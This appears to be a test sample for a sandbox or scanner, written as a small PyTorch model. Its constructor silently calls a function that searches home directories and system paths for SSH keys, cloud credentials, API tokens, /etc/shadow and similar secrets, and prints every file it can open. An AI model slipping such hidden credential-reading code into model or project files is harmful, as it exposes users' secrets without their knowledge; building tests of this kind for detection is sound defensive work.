# group: secrets
# tries: looks for keys and passwords in homes and system files
# static: unsafe
# sandbox: trained

import glob
import os

import torch.nn as nn


def attack():
    homes = {os.path.expanduser("~"), "/root", "/home/*", "/tmp/archloop-canary/home"}
    files = (
        "/.ssh/*",
        "/.netrc",
        "/.aws/credentials",
        "/.config/*/*",
        "/.cache/huggingface/token",
        "/.bash_history",
        "/.gitconfig",
    )
    paths = [path for home in homes for name in files for path in glob.glob(home + name)]
    for path in paths + [
        "/etc/shadow",
        "/etc/sudoers",
        "/etc/ssh/ssh_host_ed25519_key",
        "/tmp/archloop-canary/secret.txt",
        "/tmp/archloop-canary/home/.ssh/id_ed25519",
    ]:
        try:
            with open(path, "rb") as opened:
                print("BREACH", path, "archloop" in path and opened.read())
        except OSError:
            continue


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
